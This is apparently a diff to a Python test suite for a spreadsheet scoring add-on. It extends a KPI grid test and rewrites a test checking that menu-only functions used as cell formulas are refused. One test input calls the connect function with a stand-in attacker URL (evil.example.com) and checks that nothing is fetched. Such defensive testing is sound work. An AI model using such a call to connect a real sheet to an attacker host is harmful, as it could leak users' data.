@@ -89,6 +89,7 @@ def test_a_column_of_people_and_a_row_of_months_make_a_grid_in_one_request(world
     done = world.sheet(
         A2="Ann", A3="Bob", B1="2026-01", C1="2026-02", D1="2026-03", B2='=KPI("empty",A2:A3,B1:D1)',
         F1="revenue", F2="winrate", F4="#REF!", F5="old", G1='=KPI(F1:F5,"","2026",F1:F5)',
+        H1='=KPI("revenue",A2:A4,"2026")',
     )  # fmt: skip
     assert [done.cells[place] for place in ("B2", "D2", "B3", "D3")] == ["no data"] * 4
     assert done.cells["G1"] == float(len("revenue2026revenue"))
@@ -96,7 +97,8 @@ def test_a_column_of_people_and_a_row_of_months_make_a_grid_in_one_request(world
     assert done.cells["G3"] == ""
     assert done.cells["G4"] == "⚠ The argument is an error itself (#REF!). Correct that cell first."
     assert done.cells["G5"] == 7.5
-    assert len(done.fetches) == 2
+    assert [done.cells[place] for place in ("H1", "H3")] == [float(len("revenueAnn2026")), ""]
+    assert len(done.fetches) == 3
 
 
 def test_ranges_that_do_not_fit_or_are_too_many_are_refused_before_anything_is_asked(world: World) -> None:
@@ -315,11 +317,25 @@ def test_refresh_now_computes_again_what_follows_the_revision(world: World) -> N
     assert "KPI_REVISION" in str(explained.dialogs)
 
 
-def test_a_formula_cannot_call_what_only_the_menu_may(world: World) -> None:
-    done = run_steps(
-        world.document, [Step({"A1": '=SCORECELLCONNECT("https://evil.example.com")', "A2": "=ONOPEN()"})]
+def test_a_formula_cannot_do_what_only_the_menu_may(world: World) -> None:
+    calls = (
+        'scorecellConnect("https://evil.example.com")',
+        "scorecellDisconnect()",
+        "scorecellRefresh()",
+        "onOpen()",
     )
-    assert [cell.shown for cell in done[0].cells.values() if isinstance(cell, CellError)] == ["#NAME?", "#NAME?"]
+    formulas = {f"A{row}": f"={call}" for row, call in enumerate(calls, start=1)}
+    document = replace(world.document, identity_token=TOKEN)
+    done = run_steps(document, [Step({**formulas, "A9": "=NOTHING()", "C1": 1}, names={"KPI_REVISION": "C1"})])[0]
+    refused = [cell.message for cell in done.cells.values() if isinstance(cell, CellError)]
+    assert refused == [
+        "You do not have permission to call ScriptApp.getIdentityToken",
+        "You do not have permission to call SpreadsheetApp.getUi",
+        "You do not have permission to call Spreadsheet.getRangeByName",
+        "You do not have permission to call SpreadsheetApp.getUi",
+        "Unknown function: 'NOTHING'.",
+    ]
+    assert (list(done.fetches), done.properties) == ([], document.properties())
 
 
 def test_both_languages_say_everything() -> None:
